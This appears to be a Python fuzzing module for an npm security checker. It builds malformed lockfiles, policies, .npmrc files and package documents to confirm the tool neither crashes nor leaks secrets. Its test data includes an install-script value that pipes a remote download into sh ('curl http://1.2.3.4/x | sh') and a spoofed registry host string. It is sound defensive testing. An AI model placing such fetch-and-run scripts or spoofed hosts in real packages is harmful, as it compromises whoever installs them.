"""Hostile inputs for property tests (issue 13): strategies for lockfiles, policies, ``.npmrc``
files and package documents, and the properties every one of them must keep.

The properties, for any input:

- no run ends in exit 4 (a bug) and none takes more than :data:`LIMIT_SECONDS`;
- ``ls`` and ``check`` read a lockfile alike: the same packages, or the same error;
- a secret written where a URL keeps credentials (userinfo, a query value) never reaches
  any output format;
- a package document is judged (or refused as a registry fault), never a crash, cold and
  from the cache.

``tests/test_properties.py`` runs them with a few dozen examples each (the suite stays
fast); ``scripts/fuzz.py`` runs the same functions with 10,000 and more.
"""

from __future__ import annotations

import contextlib
import io
import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

LIMIT_SECONDS = 10.0
SECRET = "S3KR1TMARK"

# --- running the CLI ---------------------------------------------------------------------------


@dataclass
class Run:
    code: int
    out: str
    err: str
    seconds: float


@dataclass
class Tally:
    """What a fuzz run saw: inputs, exit codes, the slowest run."""

    inputs: int = 0
    codes: dict[int, int] = field(default_factory=dict)
    slowest: float = 0.0
    errors: dict[str, int] = field(default_factory=dict)  # error messages, paths removed

    def add(self, run: Run) -> None:
        self.codes[run.code] = self.codes.get(run.code, 0) + 1
        self.slowest = max(self.slowest, run.seconds)
        line = error_line(run.err).removeprefix("npmguard: error: ")
        if line:
            line = re.sub(r"\S*/(ex\d+|small-lock\.json)\S*", "<file>", line)
            line = re.sub(r'\["[^"]*"\]|\[\d+\]', "[.]", line)
            line = re.sub(r"\d+", "N", line)[:100]
            self.errors[line] = self.errors.get(line, 0) + 1


TALLY: dict[str, Tally] = {}


def cli(kind: str, *args: str) -> Run:
    """``npmguard ARGS`` in this process; fails (with the crash log) on exit 4 or a run over
    the time limit."""
    from npmguard.cli import main

    out, err = io.StringIO(), io.StringIO()
    started = time.monotonic()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    run = Run(code, out.getvalue(), err.getvalue(), time.monotonic() - started)
    TALLY.setdefault(kind, Tally()).add(run)
    if code == 4:
        raise AssertionError(f"exit 4 for {args}:\n{_crash_log(run.err)}")
    assert run.seconds < LIMIT_SECONDS, f"{args} took {run.seconds:.1f} s"
    return run


def _crash_log(err: str) -> str:
    found = re.search(r"details in (\S+)", err)
    if not found:
        return err
    path = Path(found.group(1))
    try:
        text = path.read_text()
    finally:
        path.unlink(missing_ok=True)
    return text


def error_line(err: str) -> str:
    return next((line for line in err.splitlines() if line.startswith("npmguard: error:")), "")


# --- pieces ------------------------------------------------------------------------------------

NAMES = st.one_of(
    st.sampled_from(
        [
            "left-pad",
            "@scope/pkg",
            "@scope%2fpkg",
            "a",
            "UPPER",
            "x\ud800",
            "\ud800",
            "..",
            "node_modules",
            "@",
            "@/",
            "a/b/c",
            "a" * 300,
            "a" * 40_000,
            "naïve",
            "",
            " ",
            "a\nb",
            "kue-lapis99",
        ]
    ),
    st.text(min_size=0, max_size=30),
)
VERSIONS = st.one_of(
    st.sampled_from(
        ["1.0.0", "0.0.1-security", "1.0.0-beta.1", "v1.2.3", "1.0.0+build", "*", "latest"]
    ),
    st.from_regex(r"\A[0-9]{1,20}\.[0-9]{1,5}\.[0-9]{1,5}(-[a-z0-9.]{1,10})?\Z"),
    st.text(max_size=20),
)
HOSTS = st.sampled_from(
    [
        "registry.npmjs.org",
        "127.0.0.1:99999",
        "[::1",
        "[::1]",
        "evil.example\\@registry.npmjs.org",
        "0x7f.1",
        "ex ample.com",
        "xn--nxasmq6b.example",
        "mirror.example:8443",
        "",
    ]
)
URLS = st.one_of(
    st.builds(
        lambda scheme, host, name, version, query: (
            f"{scheme}://{host}/{name}/-/{name}-{version}.tgz{query}"
        ),
        st.sampled_from(["https", "http", "HTTPS", "git+ssh", "git", "ftp", "file"]),
        HOSTS,
        NAMES,
        VERSIONS,
        st.sampled_from(["", "?v=1", "#v1.0.0", "?ref=x&sig=abc", "#semver:^1"]),
    ),
    st.sampled_from(
        [
            "git+ssh://git@github.com/a/b.git#abc123",
            "github:user/repo",
            "file:../local",
            "link:../x",
            "http://[::1/",
            "https://",
            "https://a" + "a" * 40_000 + ".example/x.tgz",
            "not a url",
            "",
        ]
    ),
    st.text(max_size=40),
)
# URLs holding SECRET where redaction must hide it: userinfo, values of unknown query keys
SECRET_URLS = st.builds(
    lambda shape, host, name: shape.format(host=host, name=name, s=SECRET),
    st.sampled_from(
        [
            "https://u:{s}@{host}/{name}/-/{name}-1.0.0.tgz",
            "https://u:p@ss-{s}@{host}/{name}/-/{name}-1.0.0.tgz",
            "https://{s}@{host}/x.tgz",
            "https://{host}/x.tgz?X-Amz-Signature={s}&v=1",
            "https://{host}/x.tgz?X-Amz-Security-Token={s}",
            "https://{host}/x.tgz?apikey={s}#v1",
            "http://u:{s}@{host}/x.tgz?token={s}",
            "git+https://u:{s}@{host}/a/b.git#main",
        ]
    ),
    st.sampled_from(["registry.npmjs.org", "mirror.example:8443", "127.0.0.1", "h.example"]),
    st.sampled_from(["left-pad", "@s/p", "x"]),
)
INTEGRITIES = st.one_of(
    st.sampled_from(
        [
            "sha512-" + "A" * 86 + "==",
            "sha1-" + "A" * 27 + "=",
            "sha512-" + "A" * 86 + "== sha1-" + "B" * 27 + "=",
            "md5-abc",
            "sha512-!!!",
            "sha512-",
            "",
        ]
    ),
    st.text(max_size=30),
)
# markers replaced after json.dumps: what a JSON writer cannot produce, a hostile one can
RAW = {
    "@BIGINT@": "1" * 4301,
    "@NEGBIG@": "-" + "9" * 5000,
    "@NAN@": "NaN",
    "@DEEP@": "[" * 1000 + "]" * 1000,
    "@DEEPISH@": "[" * 300 + "]" * 300,
}
PLAIN_LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=20),
)


def mostly(good: st.SearchStrategy[Any], bad: st.SearchStrategy[Any], odds: int = 8) -> Any:
    """``good`` about ``odds`` times in ``odds + 1``, else ``bad``: inputs deep enough to
    reach the later stages, with every kind of damage still drawn."""
    return st.integers(0, odds).flatmap(lambda n: bad if n == odds else good)


def rarely(draw: st.DrawFn, odds: int) -> bool:
    """True about once in ``odds + 1`` draws (its simplest value, 0, is False)."""
    return bool(draw(st.integers(0, odds)) == odds)


JSON_LEAVES = mostly(PLAIN_LEAVES, st.sampled_from(list(RAW)), odds=12)
JSON = st.recursive(
    JSON_LEAVES,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=12,
)


def raw_json(doc: Any) -> str:
    """``doc`` as JSON text, with the :data:`RAW` markers written in as raw tokens."""
    text = json.dumps(doc)
    for marker, token in RAW.items():
        text = text.replace(f'"{marker}"', token)
    return text


MUTATIONS = mostly(st.just("none"), st.sampled_from(["truncate", "garbage", "bom", "double"]))


def mutate(text: str, how: str, cut: int) -> bytes:
    data = text.encode("utf-8", "surrogatepass")
    if how == "truncate":  # cut near the end (drawn small), as a download cut short is
        return data[: max(0, len(data) - 1 - cut % (len(data) + 1))]
    if how == "garbage":
        at = cut % (len(data) + 1)
        return data[:at] + b"\xff\xfe\x00<<<<<<< HEAD\n" + data[at:]
    if how == "bom":
        return b"\xef\xbb\xbf" + data
    if how == "double":
        return data + data
    return data


# --- lockfiles ---------------------------------------------------------------------------------


@st.composite
def lock_entries(draw: st.DrawFn, secret: bool) -> Any:
    if rarely(draw, 30):
        return draw(JSON)
    entry: dict[str, Any] = {"version": draw(mostly(VERSIONS, JSON_LEAVES, 30))}
    fields: dict[str, st.SearchStrategy[Any]] = {
        "resolved": mostly(SECRET_URLS if secret else URLS, JSON_LEAVES, 30),
        "integrity": mostly(INTEGRITIES, JSON_LEAVES, 30),
        "name": NAMES,
        "dev": mostly(st.booleans(), JSON_LEAVES, 30),
        "optional": st.booleans(),
        "devOptional": st.booleans(),
        "peer": st.booleans(),
        "inBundle": st.booleans(),
        "link": mostly(st.booleans(), JSON_LEAVES, 30),
        "hasInstallScript": mostly(st.booleans(), JSON_LEAVES, 30),
        "dependencies": mostly(
            st.dictionaries(NAMES, mostly(VERSIONS, JSON_LEAVES, 30), max_size=3), JSON, 30
        ),
        "license": JSON_LEAVES,
        "size": JSON_LEAVES,
    }
    keys = ["resolved", "integrity"] if secret else []
    for key in keys + draw(st.lists(st.sampled_from(sorted(fields)), max_size=6, unique=True)):
        entry[key] = draw(fields[key])
    return entry


@st.composite
def v1_tree(draw: st.DrawFn, depth: int = 0) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for name in draw(st.lists(NAMES, max_size=3 if depth < 3 else 0, unique=True)):
        entry = draw(lock_entries(False))
        if isinstance(entry, dict) and depth < 3 and draw(st.booleans()):
            entry["dependencies"] = draw(v1_tree(depth + 1))
        if isinstance(entry, dict) and draw(st.booleans()):
            entry["requires"] = draw(
                mostly(st.dictionaries(NAMES, VERSIONS, max_size=2), JSON_LEAVES, 30)
            )
        out[name] = entry
    return out


@st.composite
def lockfiles(draw: st.DrawFn, secret: bool = False) -> bytes:
    """A package-lock.json as bytes: mostly lockfile-shaped, every field possibly wrong."""
    version = draw(
        mostly(st.sampled_from([3, 2, 1, None]), st.sampled_from([0, 4, "3", 3.5, "@BIGINT@"]))
    )
    doc: dict[str, Any] = {"name": draw(NAMES), "lockfileVersion": version}
    if version in (2, 3, "3", 4) or draw(st.booleans()):
        packages: dict[str, Any] = {"": {"name": "app", "version": "1.0.0"}}
        for _ in range(draw(st.integers(0, 6))):
            path = draw(
                st.one_of(
                    st.builds(lambda n: f"node_modules/{n}", NAMES),
                    st.builds(lambda a, b: f"node_modules/{a}/node_modules/{b}", NAMES, NAMES),
                    st.builds(lambda n: f"packages/{n}", NAMES),
                    st.text(max_size=20),
                )
            )
            packages[path] = draw(lock_entries(secret))
        doc["packages"] = packages if not rarely(draw, 40) else draw(JSON)
    if version in (1, None) or rarely(draw, 6):
        doc["dependencies"] = draw(v1_tree()) if not rarely(draw, 40) else draw(JSON)
    return mutate(raw_json(doc), draw(MUTATIONS), draw(st.integers(0, 10**6)))


def check_lockfile(folder: Path, data: bytes) -> None:
    """ls and check read it alike; neither crashes nor hangs."""
    lock = folder / "package-lock.json"
    lock.write_bytes(data)
    ls = cli("lockfile", "ls", str(lock), "--format", "json")
    check = cli("lockfile", "check", str(lock), "--lockfile-only", "--format", "json", "-q")
    if ls.code == 0:
        assert check.code in (0, 1), (ls.code, check.code, check.err)
        listed = {(p["name"], p["version"], p["path"]) for p in json.loads(ls.out)}
        checked = {
            (p["name"], p["version"], path)
            for p in json.loads(check.out)["packages"]
            for path in p["paths"]
        }
        assert checked == listed, listed ^ checked
    else:
        assert (ls.code, error_line(ls.err)) == (check.code, error_line(check.err))


def check_secrets(folder: Path, data: bytes) -> None:
    """A secret in userinfo or a query value of a resolved URL never reaches an output."""
    lock = folder / "package-lock.json"
    lock.write_bytes(data)
    runs = [cli("secrets", "ls", str(lock)), cli("secrets", "ls", str(lock), "--format", "json")]
    for fmt in ("text", "json", "sarif"):
        runs.append(cli("secrets", "check", str(lock), "--lockfile-only", "--format", fmt, "-q"))
    for run in runs:
        assert SECRET not in run.out and SECRET not in run.err, (run.out + run.err)[:2000]


# --- policies ----------------------------------------------------------------------------------


def _toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return (
            "nan"
            if value != value
            else ("inf" if value > 0 else "-inf")
            if abs(value) == float("inf")
            else repr(value)
        )
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str):
        if value.startswith("@RAW@"):
            return value[5:]
        return _toml_string(value)
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return (
            "{" + ", ".join(f"{_toml_string(k)} = {_toml_value(v)}" for k, v in value.items()) + "}"
        )
    return json.dumps(str(value))


def _toml_string(value: str) -> str:
    """A TOML basic string: JSON's escapes for control characters, other text as is."""
    text = value.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def _rule_ids() -> list[str]:
    from npmguard.rules.base import all_rules

    return list(all_rules())


def _option_names() -> list[str]:
    from npmguard.rules.base import all_rules

    return sorted({n for r in all_rules().values() for n in r.options} | {"level", "days"})


TOML_LEAVES = mostly(
    st.one_of(
        st.booleans(),
        st.integers(min_value=-(2**63), max_value=2**63 - 1),
        st.integers(min_value=0, max_value=400),
        st.floats(),
        st.text(max_size=12),
        st.sampled_from(["block", "warn", "info", "off", "fail", "proceed", "npmguard:strict"]),
    ),
    st.sampled_from(
        [
            "@RAW@999999999999",
            "@RAW@" + "1" * 4301,
            "@RAW@1979-05-27",
            "@RAW@9999-12-31",
            "@RAW@0001-01-01T00:00:00+14:00",
            "@RAW@" + "[" * 1000 + "]" * 1000,
        ]
    ),
)
TOML_VALUES = st.recursive(TOML_LEAVES, lambda inner: st.lists(inner, max_size=3), max_leaves=4)
EXTENDS = st.sampled_from(
    [
        "npmguard:strict",
        "npmguard:ci",
        "npmguard:default",
        "npmguard:nope",
        "./missing.toml",
        "http://[::1/",
        "ftp://example.com/p.toml",
        "http://example.com/p.toml",
        "https://127.0.0.1:1/p.toml",
        "",
    ]
)


SETTING_VALUES = {
    "fail-on": st.sampled_from(["block", "warn", "info"]),
    "prompt-on": st.sampled_from(["block", "warn", "info"]),
    "on-unreachable": st.sampled_from(["fail", "warn"]),
    "noninteractive-warn": st.sampled_from(["proceed", "block"]),
    "allowed-registries": st.lists(URLS, max_size=3),
    "include-dev": st.booleans(),
    "include-optional": st.booleans(),
    "include-peer": st.booleans(),
}
ENTRY_VALUES = {
    "package": mostly(st.sampled_from(["left-pad", "@s/*", "*", "x"]), NAMES),
    "version": mostly(st.sampled_from(["1.x", ">=1 <2", "*", "^1.0.0 || 2"]), VERSIONS),
    "reason": mostly(st.just("reviewed"), st.text(max_size=10)),
    "rules": st.lists(st.sampled_from(["install-script", "nope", "lock-host"]), max_size=2),
    "expires": st.sampled_from(["@RAW@2030-01-01", "@RAW@2001-01-01", "@RAW@9999-12-31"]),
}


@st.composite
def policies(draw: st.DrawFn) -> bytes:
    """A policy file: known keys with values mostly of the right kind, every one possibly
    wrong, a few unknown ones, or damaged text."""
    lines: list[str] = []
    if draw(st.booleans()):
        shown = draw(mostly(st.lists(EXTENDS, max_size=3), TOML_VALUES))
        lines.append(f"extends = {_toml_value(shown)}")
    if rarely(draw, 3):
        spec = mostly(st.sampled_from([">=0.1", "<0.1", "~=0.1.0", ">=99"]), TOML_LEAVES)
        lines.append(f"requires-npmguard = {_toml_value(draw(spec))}")
    if draw(st.booleans()):
        lines.append("[settings]")
        keys = [*SETTING_VALUES, "x"] if rarely(draw, 8) else list(SETTING_VALUES)
        for key in draw(st.lists(st.sampled_from(keys), max_size=4, unique=True)):
            value = mostly(SETTING_VALUES.get(key, TOML_VALUES), TOML_VALUES)
            lines.append(f"{key} = {_toml_value(draw(value))}")
    rules = [*_rule_ids(), "nope"] if rarely(draw, 8) else _rule_ids()
    levels = st.sampled_from(["block", "warn", "info", "off"])
    chosen = draw(st.lists(st.sampled_from(rules), max_size=5, unique=True))
    tables = [r for r in chosen if draw(st.booleans())]
    if set(chosen) - set(tables):
        lines.append("[rules]")
        for rule in chosen:
            if rule not in tables:
                level = _toml_value(draw(mostly(levels, TOML_VALUES)))
                lines.append(f"{json.dumps(rule)} = {level}")
    from npmguard.rules.base import all_rules

    for rule in tables:
        lines.append(f"[rules.{json.dumps(rule)}]")
        own = sorted(all_rules()[rule].options) if rule in all_rules() else []
        names = mostly(st.sampled_from([*own, "level"]), st.sampled_from(_option_names()))
        for name in draw(st.lists(names, max_size=3, unique=True)):
            value = mostly(levels, TOML_VALUES) if name == "level" else TOML_VALUES
            lines.append(f"{json.dumps(name)} = {_toml_value(draw(value))}")
    for table in draw(st.lists(st.sampled_from(["allow", "deny"]), max_size=2)):
        lines.append(f"[[{table}]]")
        more = st.lists(st.sampled_from([*ENTRY_VALUES, "x"]), max_size=3, unique=True)
        keys = ["package", "reason", *draw(more)]
        for key in dict.fromkeys(keys):
            value = mostly(ENTRY_VALUES.get(key, TOML_VALUES), TOML_VALUES)
            lines.append(f"{key} = {_toml_value(draw(value))}")
    text = "\n".join(lines) + "\n"
    return mutate(text, draw(MUTATIONS), draw(st.integers(0, 10**6)))


def check_policy(folder: Path, data: bytes, lockfile: Path) -> None:
    """validate never crashes; a policy it accepts never crashes a check either."""
    policy = folder / "npmguard.toml"
    policy.write_bytes(data)
    validated = cli("policy", "policy", "validate", str(policy))
    if validated.code == 0:
        for args in (("--lockfile-only",), ("--offline",)):
            cli("policy", "check", str(lockfile), "--policy", str(policy), "-q", *args)
        cli("policy", "policy", "show", "--policy", str(policy))


# --- .npmrc ------------------------------------------------------------------------------------

NPMRC_KEYS = st.sampled_from(
    [
        "registry",
        "@scope:registry",
        "@s:registry",
        "fetch-timeout",
        "fetch-retries",
        "strict-ssl",
        "ca",
        "ca[]",
        "cafile",
        "replace-registry-host",
        "//registry.npmjs.org/:_authToken",
        "//127.0.0.1:99999/:_authToken",
        "_auth",
        "//h/:_password",
        "//h/:username",
        "always-auth",
        "noproxy",
        "omit",
        "include",
        "",
        "[section]",
    ]
)
NPMRC_VALUES = st.one_of(
    URLS,
    st.sampled_from(
        [
            "1e400",
            "nan",
            "-1",
            "0",
            "99999999999999999999",
            "1" * 5000,
            "true",
            "false",
            "${HOME}",
            "${UNSET_NPMGUARD_FUZZ}",
            '"quoted"',
            "'single'",
            '"\\ud800"',
            "'[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]'",
            "-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----",
            "dev",
            "never",
            "always",
            "npmjs",
        ]
    ),
    st.text(max_size=30),
)


@st.composite
def npmrcs(draw: st.DrawFn) -> bytes:
    lines = []
    for _ in range(draw(st.integers(0, 8))):
        key = draw(NPMRC_KEYS | st.text(max_size=15))
        sep = draw(st.sampled_from(["=", " = ", "=", ""]))
        lines.append(f"{key}{sep}{draw(NPMRC_VALUES)}")
    text = "\n".join(lines) + draw(st.sampled_from(["\n", "", "\r\n", "\n;comment\n#x\n"]))
    return mutate(text, draw(MUTATIONS), draw(st.integers(0, 10**6)))


def check_npmrc(folder: Path, data: bytes, lockfile: bytes) -> None:
    """A project .npmrc never crashes a check, and what it configures stays usable: a
    timeout a socket takes, retries urllib3 takes, the registry for every name."""
    import socket

    from npmguard.errors import NpmguardError
    from npmguard.registry.http import make_session
    from npmguard.registry.npmrc import load_npm_config

    (folder / "package-lock.json").write_bytes(lockfile)
    (folder / "package.json").write_text('{"name": "app", "version": "1.0.0"}')
    (folder / ".npmrc").write_bytes(data)
    for args in (("--lockfile-only",), ("--offline",)):
        cli("npmrc", "check", str(folder / "package-lock.json"), "-q", *args)
    started = time.monotonic()
    try:
        config = load_npm_config(folder, env={})
    except NpmguardError:
        return
    with socket.socket() as sock:
        sock.settimeout(config.fetch_timeout)
    session = make_session(config, None)
    try:
        for name in ("left-pad", "@scope/pkg", "@s/x"):
            config.registry_for(name)
            url = config.registry_for(name) + name
            config.auth_for(url, None)
            config.proxies_for(url)
        config.registries(()).allowed_hosts("left-pad")
    finally:
        session.close()
    took = time.monotonic() - started
    assert took < LIMIT_SECONDS, f"reading the settings took {took:.1f} s"


# --- package documents -------------------------------------------------------------------------

TIMES = st.one_of(
    st.sampled_from(
        [
            "2019-01-01T00:00:00.000Z",
            "0001-01-01T00:00:00+14:00",
            "9999-12-31T23:59:59-14:00",
            "1970-01-01T00:00:00Z",
            "2020-02-30T00:00:00Z",
            "2021-06-01T12:00:00",
            "",
            "yesterday",
        ]
    ),
    st.datetimes().map(lambda d: d.isoformat() + "Z"),
    JSON_LEAVES,
)


@st.composite
def manifests(draw: st.DrawFn, name: str, version: str) -> Any:
    if rarely(draw, 9):
        return draw(JSON)
    doc: dict[str, Any] = {"name": name, "version": version}
    fields: dict[str, st.SearchStrategy[Any]] = {
        "scripts": st.dictionaries(
            st.sampled_from(["preinstall", "install", "postinstall", "test", "x"]),
            st.sampled_from(["node install.js", "curl http://1.2.3.4/x | sh", ""]) | JSON_LEAVES,
            max_size=3,
        )
        | JSON_LEAVES,
        "bin": st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2) | JSON_LEAVES,
        "dependencies": st.dictionaries(NAMES, VERSIONS, max_size=3) | JSON_LEAVES,
        "dist": st.fixed_dictionaries(
            {},
            optional={
                "integrity": INTEGRITIES | JSON_LEAVES,
                "shasum": st.sampled_from(["a" * 40, "zz", ""]) | JSON_LEAVES,
                "tarball": URLS | JSON_LEAVES,
                "fileCount": JSON_LEAVES,
                "unpackedSize": JSON_LEAVES,
                "signatures": JSON,
                "attestations": JSON,
            },
        )
        | JSON_LEAVES,
        "_npmUser": st.fixed_dictionaries({"name": NAMES}) | st.text(max_size=10) | JSON_LEAVES,
        "deprecated": st.text(max_size=20) | JSON_LEAVES,
        "gypfile": JSON_LEAVES,
        "hasInstallScript": JSON_LEAVES,
        "description": st.text(max_size=30) | st.just("tea.xyz protocol") | JSON_LEAVES,
        "keywords": st.lists(st.text(max_size=8), max_size=3) | JSON_LEAVES,
        "repository": st.fixed_dictionaries({"url": URLS}) | JSON_LEAVES,
        "main": JSON_LEAVES,
    }
    for key in draw(st.lists(st.sampled_from(sorted(fields)), max_size=8, unique=True)):
        doc[key] = draw(fields[key])
    return doc


@st.composite
def packuments(draw: st.DrawFn, name: str = "fuzzed") -> tuple[bytes, str]:
    """(a package document as bytes, the version to lock): mostly packument-shaped."""
    versions = draw(st.lists(VERSIONS, max_size=8, unique=True))
    if rarely(draw, 19):  # now and then, a flood
        versions += [f"9.{i // 100}.{i % 100}" for i in range(draw(st.integers(0, 3000)))]
    doc: dict[str, Any] = {"name": draw(st.sampled_from([name, name, "other"]) | NAMES)}
    doc["versions"] = {v: draw(manifests(name, v)) for v in versions[:8]}
    doc["versions"].update({v: {"name": name, "version": v} for v in versions[8:]})
    times: dict[str, Any] = {}
    if draw(st.booleans()):
        times["created"] = draw(TIMES)
        times["modified"] = draw(TIMES)
    for i, v in enumerate(versions):
        times[v] = (
            draw(TIMES)
            if i < 8
            else f"2021-06-01T{i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}Z"
        )
    if rarely(draw, 9):
        times["unpublished"] = draw(JSON | st.fixed_dictionaries({"time": TIMES}))
    doc["time"] = times if not rarely(draw, 9) else draw(JSON)
    doc["dist-tags"] = draw(
        st.dictionaries(st.sampled_from(["latest", "next", "x"]), VERSIONS, max_size=2) | JSON
    )
    if draw(st.booleans()):
        doc["maintainers"] = draw(
            st.lists(st.fixed_dictionaries({"name": NAMES}), max_size=2) | JSON
        )
    if rarely(draw, 9):
        doc = draw(JSON)
    locked = draw(st.sampled_from(versions) if versions else VERSIONS)
    return mutate(raw_json(doc), draw(MUTATIONS), draw(st.integers(0, 10**6))), locked


def check_packument(folder: Path, registry: Any, data: bytes, locked: str) -> None:
    """A package document, served over HTTP: judged by every rule of the strict policy (or
    refused as a registry fault, exit 3), never a crash, cold and then from the cache. Each
    input is its own package (``fuzzed-<folder>``), so no input reads another's facts."""
    from fakeregistry import Misbehaviour, build_tarball, sri_sha512

    name = f"fuzzed-{folder.name}"
    registry.misbehave(name, Misbehaviour(body=data))
    manifest = json.dumps({"name": name, "scripts": {"install": "node install.js"}})
    tarball = build_tarball(
        {"package/package.json": manifest, "package/install.js": "require('https').get(x)"}
    )
    registry.tarballs[f"{name}/-/{name}-{locked}.tgz"] = tarball
    lock = {
        "name": "app",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "app", "version": "1.0.0"},
            f"node_modules/{name}": {
                "version": locked,
                "resolved": f"{registry.url}{name}/-/{name}-{locked}.tgz",
                "integrity": sri_sha512(tarball),
                "hasInstallScript": True,
            },
        },
    }
    (folder / "package-lock.json").write_text(json.dumps(lock))
    (folder / "npmguard.toml").write_text('extends = ["npmguard:strict"]\n')
    (folder / ".npmrc").write_text(f"registry={registry.url}\nfetch-retries=0\n")
    path = str(folder / "package-lock.json")
    first = cli("packument", "check", path, "--format", "json", "-q")
    try:
        if first.code == 2 and "package-lock.json: " in first.err:
            return  # the version drawn is no version a lockfile can hold ("", a space)
        assert first.code in (0, 1, 3), first.err
        for args in (("--format", "sarif"), ("--offline",)):
            again = cli("packument", "check", path, "-q", *args)
            assert again.code == first.code or (args == ("--offline",) and first.code == 3)
    finally:
        registry.behave(name)
        registry.tarballs.pop(f"{name}/-/{name}-{locked}.tgz", None)


def fresh_folders(base: Path) -> Iterator[Path]:
    """Folders under ``base`` for one example each (``tmp_path`` is shared by examples)."""
    count = 0
    while True:
        count += 1
        folder = base / f"ex{count}"
        folder.mkdir(parents=True)
        yield folder


Check = Callable[..., None]
